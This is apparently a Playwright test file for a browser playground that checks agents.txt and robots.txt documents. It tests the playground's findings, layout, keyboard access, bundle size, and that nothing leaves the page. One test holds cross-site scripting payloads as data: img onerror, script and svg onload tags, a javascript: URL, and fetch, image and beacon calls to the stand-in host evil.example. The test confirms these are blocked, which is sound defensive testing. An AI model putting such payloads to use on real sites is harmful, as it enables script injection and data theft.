// The playground in a browser: what it shows, that nothing leaves it, and that it can be used at 360 pixels and by keyboard.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync, readFileSync, readdirSync } from "node:fs";
import { createServer } from "node:http";
import { extname, join } from "node:path";
import { after, before, test } from "node:test";
import { brotliCompressSync } from "node:zlib";
import { chromium } from "playwright-core";
import { ROOT } from "./vectors.mjs";

const CHROMIUM = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"].find(existsSync);
const skip = CHROMIUM === undefined ? "there is no chromium; apt install chromium" : false;
const PAGE = join(ROOT, "js/dist-playground");
const TYPES = { ".html": "text/html; charset=utf-8", ".js": "text/javascript", ".css": "text/css", ".wasm": "application/wasm" };
/** With it, pictures of the page are put into this folder. */
const PICTURES = process.env.AGENTSDISC_PICTURES;

let browser;
let server;
let origin;

before(async () => {
  if (skip) return;
  const build = (tool, ...args) => execFileSync(join(ROOT, "js/node_modules/.bin", tool), args, { cwd: join(ROOT, "js"), stdio: "inherit" });
  build("tsc", "-p", "playground");
  build("vite", "build", "playground", "--logLevel", "error");
  server = createServer(({ url }, response) => {
    const file = join(PAGE, url === "/" ? "index.html" : new URL(url, "http://x").pathname);
    if (!existsSync(file)) return response.writeHead(404).end();
    response.writeHead(200, { "Content-Type": TYPES[extname(file)] ?? "application/octet-stream" }).end(readFileSync(file));
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  origin = `http://127.0.0.1:${server.address().port}/`;
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
});

after(async () => {
  await browser?.close();
  server?.close();
});

/**
 * Opens the page, and checks at the end that it has requested nothing but its own files, and that nothing was wrong but what is `expected` in the console. `later` are parts of the page that are loaded when they are needed.
 */
async function opened(options, use, { fragment = "", expected = /^$/, later = /^$/ } = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options });
  const page = await context.newPage();
  const requests = [];
  const problems = [];
  page.on("request", (request) => requests.push(request));
  page.on("pageerror", (problem) => problems.push(String(problem)));
  page.on("console", (said) => said.type() === "error" && !expected.test(said.text()) && problems.push(said.text()));
  await page.goto(origin + fragment);
  await page.locator("#findings li").first().waitFor({ timeout: 120_000 });
  const count = requests.length;
  await use(page);
  assert.deepEqual(problems, []);
  // The policy of the page blocks a request before it is sent.
  const sent = requests.filter((each) => each.failure()?.errorText !== "csp");
  assert.deepEqual(sent.slice(count).map((each) => each.url()).filter((url) => !later.test(url)), [], "nothing is requested after the page has loaded");
  for (const request of sent) {
    assert.ok(request.url().startsWith(origin), request.url());
    assert.equal(request.method(), "GET");
    assert.ok(!request.url().includes("?") && !request.url().slice(origin.length).includes("#"), request.url());
  }
  await context.close();
}

const text = (page, selector) => page.locator(selector).innerText();
async function write(page, document) {
  await page.locator(".cm-content").click();
  await page.keyboard.press("Control+A");
  await page.evaluate((content) => {
    const data = new DataTransfer();
    data.setData("text/plain", content);
    const into = document.querySelector("#editor").shadowRoot.querySelector(".cm-content");
    into.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
  }, document);
  await page.waitForTimeout(250);
}
const picture = async (page, name) => {
  if (PICTURES) await page.screenshot({ path: join(PICTURES, `${name}.png`) });
};

test("findings, model, decisions and conversions", { skip }, () =>
  opened({}, async (page) => {
    assert.match(await text(page, "#status"), /^agents-txt .*2 errors, 1 warning/);
    assert.match(await text(page, "#findings"), /insecure-url, line 14/);
    assert.ok((await page.locator(".cm-lintRange").count()) > 0);
    await picture(page, "findings");
    await page.getByRole("tab", { name: "Model" }).click();
    assert.match(await text(page, "#model pre"), /"Mug Shop"/);
    await page.getByRole("tab", { name: "Decisions" }).click();
    await page.getByLabel("URL").fill("/admin/x");
    assert.match(await text(page, "#verdict"), /^not allowed .*\[disallowed\] \(line \d+: \/admin\/\*\)/);
    assert.match(await text(page, "#decisions ul"), /allowed search/);
    await picture(page, "decisions");
    await page.getByRole("tab", { name: "Convert" }).click();
    await page.locator("#target").selectOption("agents-json");
    assert.equal(JSON.parse(await text(page, "#convert pre")).site.name, "Mug Shop");
    await page.locator("#target").selectOption("robots-txt");
    await picture(page, "convert");
    await write(page, '{"specVersion": "1.0"');
    await page.getByRole("tab", { name: "Findings" }).click();
    assert.match(await text(page, "#findings"), /error .*line 1/);
    assert.match(await text(page, "#status"), /not read/);
    await write(page, "");
    assert.match(await text(page, "#status"), /Paste a document/);
  }));

test("as one types", { skip }, () =>
  opened({}, async (page) => {
    await write(page, "Spec-Version: 1.0\nSite-Name: ü\nSite-URL: https://m.example\nCapability: a\n  Endpoint: https://m.example/a\n  Protocol: REST\n");
    const before = await page.locator("#findings li button").count();
    await page.locator(".cm-content").press("Control+End");
    await page.keyboard.type("  Auth-Endpoint: http://m.example/t\n");
    await page.waitForTimeout(300);
    assert.ok((await page.locator("#findings li button").count()) > before);
    // The mark is where the text is, behind a character of two bytes.
    const marked = await page.locator(".cm-lintRange").allInnerTexts();
    assert.ok(marked.some((each) => each.includes("http://m.example/t")), marked.join("|"));
    await page.locator("#findings li button", { hasText: "insecure" }).first().click();
    assert.ok(await page.evaluate(() => document.activeElement === document.querySelector("#editor")));
  }));

const HOSTILE = `Spec-Version: 1.0
Site-Name: <img src=x onerror=alert(1)><script>alert(2)</script>
Site-URL: https://m.example
Description: "><svg onload=fetch('https://evil.example')>
Capability: <b>bold</b>
  Endpoint: javascript:alert(1)
  Protocol: REST
`;

test("a hostile document is text", { skip }, () =>
  opened({}, async (page) => {
    let alerts = 0;
    page.on("dialog", (dialog) => (alerts++, dialog.dismiss()));
    await write(page, HOSTILE);
    for (const name of ["Findings", "Model", "Decisions", "Convert"]) {
      await page.getByRole("tab", { name }).click();
      assert.equal(await page.locator(".results :is(img, svg, b, script, a, iframe)").count(), 0, name);
    }
    assert.match(await text(page, "#decisions ul").catch(() => ""), /^$|<b>bold<\/b>/);
    assert.equal(alerts, 0);
    // The page itself cannot send anything elsewhere, and makes no markup from text.
    const tried = await page.evaluate(async () => {
      const image = await new Promise((done) => Object.assign(new Image(), { onload: () => done("loaded"), onerror: () => done("blocked") }).src = "https://evil.example/x.png");
      const fetched = await fetch("https://evil.example/").then(() => "sent", () => "blocked");
      let markup = "blocked";
      try {
        document.createElement("p").innerHTML = "<b>x</b>";
        markup = "made";
      } catch {}
      return [image, fetched, markup, navigator.sendBeacon("https://evil.example/", "x") ? "beacon" : "blocked"];
    });
    // A beacon is blocked after the function has returned; the check of all requests sees it.
    assert.deepEqual(tried.slice(0, 3), ["blocked", "blocked", "blocked"]);
  }, { expected: /Content Security Policy|TrustedHTML/ }));

test("a file, a link, and the format", { skip }, () =>
  opened({}, async (page) => {
    await page.locator("#file").setInputFiles({ name: "robots.txt", mimeType: "text/plain", buffer: Buffer.from("User-agent: *\r\nDisallow: /private\r\n") });
    await page.locator("#status", { hasText: "robots-txt" }).waitFor();
    await page.getByRole("tab", { name: "Decisions" }).click();
    await page.getByLabel("URL").fill("https://m.example/private/x");
    assert.match(await text(page, "#verdict"), /^not allowed/);
    await page.locator("#file").setInputFiles({ name: "a.txt", mimeType: "text/plain", buffer: Buffer.from([0x53, 0xff, 0x0a]) });
    await page.locator("#format").selectOption("agents-txt");
    await page.getByRole("tab", { name: "Findings" }).click();
    await page.locator("#findings", { hasText: "invalid-utf8" }).waitFor();
    await page.locator("#format").selectOption("");
    await write(page, "# Ünïcode & more\n\n> Mugs\n");
    await page.getByRole("button", { name: "Link" }).click();
    const fragment = new URL(page.url()).hash;
    await opened({}, async (other) => assert.match(await text(other, ".cm-content"), /Ünïcode/), { fragment });
  }));

/** What is loaded when a folder is dropped. */
const LATER = /\/assets\/(?:folder|readiness)-[\w-]+\.(?:js|wasm)$/;

test("a dropped folder is checked as a site, and nothing of it is sent", { skip }, () =>
  opened({}, async (page) => {
    assert.equal(await page.locator("#tab-site").isVisible(), false);
    await page.evaluate(() => {
      const file = (name, content) => ({ isFile: true, isDirectory: false, name, file: (done) => done(new File([content], name)) });
      const folder = (name, ...entries) => ({ isFile: false, isDirectory: true, name, createReader: () => ({ readEntries: (done) => done(entries.splice(0, 2)) }) });
      const robots = "User-agent: *\nDisallow: /.well-known/\n";
      const html = '<!doctype html><html lang="en"><head><title>A</title></head><body><h1>A</h1><img src=x onerror=alert(1)></body></html>';
      const site = folder("public", file("robots.txt", robots), file("index.html", html), file("llms.txt", "<b>no</b>"), folder(".well-known", file("ai-catalog.json", "{}")), folder("node_modules", file("x", "")));
      const event = new DragEvent("drop", { bubbles: true, cancelable: true });
      Object.defineProperty(event, "dataTransfer", { value: { types: ["Files"], files: [], items: [{ webkitGetAsEntry: () => site }] } });
      document.querySelector("#editor").dispatchEvent(event);
    });
    await page.locator("#result", { hasText: "public: level" }).waitFor();
    const said = await text(page, "#site ul");
    assert.match(said, /warn ai-catalog: /);
    assert.match(said, /pass robots-txt: /);
    assert.match(said, /isitagentready will probably say: /);
    assert.doesNotMatch(said, /node_modules/);
    assert.equal(await page.locator("#site :is(img, b)").count(), 0);
    await picture(page, "site");
  }, { later: LATER }));

for (const [width, colorScheme] of [[360, "light"], [360, "dark"], [1280, "light"], [1280, "dark"]]) {
  test(`at ${width} pixels, ${colorScheme}`, { skip }, () =>
    opened({ viewport: { width, height: width === 360 ? 740 : 800 }, colorScheme }, async (page) => {
      await picture(page, `${width}-${colorScheme}`);
      for (const name of ["Findings", "Model", "Decisions", "Convert"]) {
        await page.getByRole("tab", { name }).click();
        const [content, seen] = await page.evaluate(() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]);
        assert.ok(content <= seen, `${name}: ${content} > ${seen}`);
        await page.locator(".results").scrollIntoViewIfNeeded();
        await picture(page, `${width}-${colorScheme}-${name}`);
      }
      const back = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
      assert.equal(back === "rgb(255, 255, 255)", colorScheme === "light");
    }));
}

test("by keyboard", { skip }, () =>
  opened({}, async (page) => {
    const reached = new Set();
    for (let at = 0; at < 14; at++) {
      await page.keyboard.press("Tab");
      reached.add(await page.evaluate(() => document.activeElement.id || document.activeElement.tagName));
    }
    for (const id of ["format", "file", "fix", "share", "editor", "tab-findings"]) assert.ok(reached.has(id), `${id} is not reached: ${[...reached]}`);
    await page.locator("#tab-findings").focus();
    await page.keyboard.press("ArrowRight");
    assert.equal(await page.locator("#model").isVisible(), true);
    await page.keyboard.press("End");
    assert.equal(await page.locator("#convert").isVisible(), true);
  }));

test("size, and the first finding", { skip }, async () => {
  const all = readdirSync(PAGE, { recursive: true, withFileTypes: true }).filter((each) => each.isFile());
  const first = all.filter(({ name }) => !LATER.test(`/assets/${name}`));
  assert.ok(first.length < all.length);
  const size = first.reduce((sum, each) => sum + brotliCompressSync(readFileSync(join(each.parentPath ?? each.path, each.name))).length, 0);
  assert.ok(size < 600_000, `${size}`);
  await opened({}, async (page) => {
    const ready = await page.evaluate(() => performance.now());
    console.log(`# ${size} bytes, first finding before ${Math.round(ready)} ms`);
  });
});
